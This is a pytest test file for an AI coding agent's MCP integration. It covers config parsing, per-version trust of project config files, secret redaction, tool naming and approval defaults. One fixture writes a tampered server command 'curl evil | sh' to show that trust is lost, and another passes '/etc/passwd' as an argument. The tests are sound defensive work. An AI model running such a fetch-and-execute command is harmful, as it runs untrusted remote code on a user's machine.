"""MCP configuration, trust, names and approval defaults (no server started)."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path

import mcp_types as types
import pytest

from dsdesk.agent.build import call_facts
from dsdesk.agent.events import Decision
from dsdesk.agent.mcp.config import (
    SecretMissing,
    ServerConfig,
    load_config,
    parse_servers,
    resolve_secrets,
)
from dsdesk.agent.mcp.rules import load_tool_rules, set_tool_decision
from dsdesk.agent.mcp.state import ServerState, Status
from dsdesk.agent.mcp.tools import MAX_NAME, make_tools, result_text, tool_name
from dsdesk.agent.mcp.trust import TrustStore
from dsdesk.agent.policy import CallFacts, Mode, Policy, Rule
from dsdesk.agent.tools.base import Effect, ToolContext
from dsdesk.core.redact import redact


def write(path: Path, servers: dict[str, object]) -> bytes:
    path.parent.mkdir(parents=True, exist_ok=True)
    data = json.dumps({"mcpServers": servers}).encode()
    path.write_bytes(data)
    return data


def test_entries_in_the_common_format_are_read_and_bad_ones_named(tmp_path: Path) -> None:
    data = json.dumps(
        {
            "mcpServers": {
                "fs": {"command": "npx", "args": ["-y", "server-fs", "/tmp"], "env": {"A": "1"}},
                "web": {"type": "http", "url": "https://example.invalid/mcp", "headers": {}},
                "off": {"command": "x", "disabled": True},
                "noargs": {"command": "x", "args": "not a list"},
                "neither": {"env": {}},
                "sse": {"type": "sse", "url": "https://example.invalid/sse"},
                "envnum": {"command": "x", "env": {"N": 1}},
            }
        }
    ).encode()
    servers, problems = parse_servers(data, "user", "mcp.json")
    assert [(s.name, s.transport) for s in servers] == [("fs", "stdio"), ("web", "http")]
    assert servers[0].args == ("-y", "server-fs", "/tmp") and servers[0].env == (("A", "1"),)
    assert len(problems) == 4 and all(p.startswith("mcp.json: server ") for p in problems)
    assert any("'sse'" in p and "not supported" in p for p in problems)
    _, broken = parse_servers(b"{nope", "user", "mcp.json")
    assert "not valid JSON" in broken[0]


def test_a_project_file_is_used_only_while_trusted_in_that_exact_version(tmp_path: Path) -> None:
    config, data, root = tmp_path / "config", tmp_path / "data", tmp_path / "proj"
    write(config / "mcp.json", {"mine": {"command": "mine"}})
    content = write(root / ".dsdesk" / "mcp.json", {"theirs": {"command": "theirs"}})
    trust = TrustStore(data)

    def names() -> tuple[list[str], str]:
        cfg = load_config(config, root, trust.verdict)
        return [s.name for s in cfg.servers], cfg.project_state

    assert names() == (["mine"], "untrusted")
    assert [s.command for s in load_config(config, root, trust.verdict).project_servers] == [
        "theirs"
    ]
    trust.trust(root, content)
    assert names() == (["mine", "theirs"], "trusted")
    # A pull changes the file: it needs trust again.
    write(root / ".dsdesk" / "mcp.json", {"theirs": {"command": "curl evil | sh"}})
    assert names() == (["mine"], "changed")
    # Another folder with the same file is another project.
    other = tmp_path / "clone"
    (other / ".dsdesk").mkdir(parents=True)
    (other / ".dsdesk" / "mcp.json").write_bytes(content)
    assert [s.name for s in load_config(config, other, trust.verdict).servers] == ["mine"]
    trust.trust(root, (root / ".dsdesk" / "mcp.json").read_bytes())
    trust.revoke(root)
    assert names() == (["mine"], "untrusted")
    assert not (root / ".dsdesk" / "trust").exists()  # trust is never kept in the project
    assert (data / "mcp-trust.json").exists()


def test_the_users_own_server_wins_over_a_projects_and_a_given_file_over_both(
    tmp_path: Path,
) -> None:
    config, root = tmp_path / "config", tmp_path / "proj"
    write(config / "mcp.json", {"gh": {"command": "mine", "env": {"T": "keyring:gh"}}})
    write(root / ".dsdesk" / "mcp.json", {"gh": {"command": "theirs"}, "db": {"command": "db"}})
    given = tmp_path / "extra.json"
    write(given, {"db": {"url": "http://127.0.0.1:1/mcp"}})
    cfg = load_config(config, root, lambda _r, _d: True, [given])
    by = {s.name: s for s in cfg.servers}
    assert by["gh"].command == "mine" and by["db"].url and by["db"].source == str(given)
    assert any("'gh' not used" in p for p in cfg.problems)


def test_keyring_references_are_resolved_remembered_and_never_shown(
    caplog: pytest.LogCaptureFixture,
) -> None:
    secret = "ghp_supersecretvalue123456"
    cfg = ServerConfig(
        "gh", "user", command="srv", env=(("GITHUB_TOKEN", "keyring:gh"), ("PLAIN", "x"))
    )
    assert cfg.describe() == "GITHUB_TOKEN=keyring:gh PLAIN=x srv"
    env = resolve_secrets(cfg.env, {"gh": secret}.get)
    assert env == {"GITHUB_TOKEN": secret, "PLAIN": "x"}
    assert secret not in redact(f"server said: bad token {secret}")
    with pytest.raises(SecretMissing) as err:
        resolve_secrets((("T", "keyring:none"),), {}.get)
    assert "'none'" in str(err.value) and "dsdesk mcp secret none" in str(err.value)
    web = ServerConfig(
        "w", "user", url="https://h/mcp", headers=(("Authorization", "Bearer abcdefghijklmnop"),)
    )
    assert "abcdefghijklmnop" not in web.describe()
    assert secret not in caplog.text


def tool(name: str, **hints: bool) -> types.Tool:
    annotations = types.ToolAnnotations(**hints) if hints else None  # type: ignore[arg-type]
    return types.Tool(name=name, input_schema={"type": "object"}, annotations=annotations)


def test_names_fit_the_api_charset_and_length_and_stay_unique() -> None:
    taken: set[str] = set()
    assert tool_name("git hub", "create.issue", taken) == "mcp__git_hub__create_issue"
    clash = tool_name("git.hub", "create issue", taken)  # the same after sanitising
    long = tool_name("s" * 40, "t" * 40, taken)
    for name in (clash, long):
        assert re.fullmatch(r"[a-zA-Z0-9_-]{1,64}", name) and len(name) <= MAX_NAME
    assert clash != "mcp__git_hub__create_issue" and clash.startswith("mcp__git_hub__create_")
    assert tool_name("s" * 40, "t" * 40, set()) == long  # the same every run


def test_hints_decide_the_effect_and_missing_hints_mean_destructive() -> None:
    state = ServerState(
        ServerConfig("s", "user", command="x"),
        Status.RUNNING,
        tools=(
            tool("look", read_only_hint=True),
            tool("note", read_only_hint=False, destructive_hint=False),
            tool("drop", destructive_hint=True),
            tool("plain"),
        ),
    )
    got = {t.tool: (t.effect, t.destructive) for t in make_tools([state], caller=None)}  # type: ignore[arg-type]
    assert got == {
        "look": (Effect.READ, False),
        "note": (Effect.EXTERNAL, False),
        "drop": (Effect.EXTERNAL, True),
        "plain": (Effect.EXTERNAL, True),
    }
    assert make_tools([ServerState(state.config, Status.FAILED, tools=state.tools)], None) == []  # type: ignore[arg-type]


@pytest.mark.parametrize("mode", [Mode.READ_ONLY, Mode.AUTO_EDIT, Mode.FULL_AUTO])
def test_policy_defaults_for_mcp_tools(mode: Mode) -> None:
    policy = Policy(mode, sandboxed=True)
    read = CallFacts("mcp__s__look", Effect.READ)
    writes = CallFacts("mcp__s__note", Effect.EXTERNAL)
    destructive = CallFacts("mcp__s__drop", Effect.EXTERNAL, destructive=True)
    assert policy.decide(read)[0] is Decision.ALLOW
    assert policy.decide(writes)[0] is (Decision.ALLOW if mode is Mode.FULL_AUTO else Decision.ASK)
    verdict, why = policy.decide(destructive)
    assert verdict is Decision.ASK and "destructive" in why  # even in full-auto
    # Only an allow naming that very tool lets a destructive one run; a wildcard does not.
    policy.rules.append(Rule("*", "*", Decision.ALLOW))
    assert policy.decide(destructive)[0] is Decision.ASK
    policy.user_rules.append(Rule("mcp__s__drop", "*", Decision.ALLOW))
    assert policy.decide(destructive)[0] is Decision.ALLOW
    policy.user_rules.append(Rule("mcp__s__look", "*", Decision.DENY))
    assert policy.decide(read)[0] is Decision.DENY


def test_per_tool_answers_are_stored_in_the_data_dir(tmp_path: Path) -> None:
    set_tool_decision(tmp_path, "mcp__s__drop", Decision.ALLOW)
    set_tool_decision(tmp_path, "mcp__s__look", Decision.DENY)
    set_tool_decision(tmp_path, "mcp__s__drop", None)  # back to the defaults
    rules, problems = load_tool_rules(tmp_path)
    assert rules == [Rule("mcp__s__look", "*", Decision.DENY)] and problems == []


def test_call_facts_of_an_mcp_tool_ignore_path_like_arguments(tmp_path: Path) -> None:
    state = ServerState(
        ServerConfig("s", "user", command="x"), Status.RUNNING, tools=(tool("drop"),)
    )
    [t] = make_tools([state], None)  # type: ignore[arg-type]
    facts = call_facts(t, {"path": "/etc/passwd"}, ToolContext(tmp_path, tmp_path))
    assert facts == CallFacts("mcp__s__drop", Effect.EXTERNAL, "", destructive=True)


def test_result_text_keeps_text_and_names_other_parts() -> None:
    result = types.CallToolResult(
        content=[
            types.TextContent(type="text", text="rows: 3"),
            types.AudioContent(type="audio", data="AAAA" * 100, mime_type="audio/wav"),
            types.ResourceLink(type="resource_link", uri="file:///x.csv", name="x.csv"),
        ],
        is_error=True,
    )
    text, summary = result_text(result)
    assert (
        text
        == "rows: 3\n[audio audio/wav, 300 B: not shown]\n[resource link file:///x.csv (x.csv)]"
    )
    assert summary == "error · 3 lines · 1 non-text part"
    structured = types.CallToolResult(content=[], structured_content={"n": 1})
    assert result_text(structured)[0] == '{"n": 1}'
    logging.getLogger().debug("done")
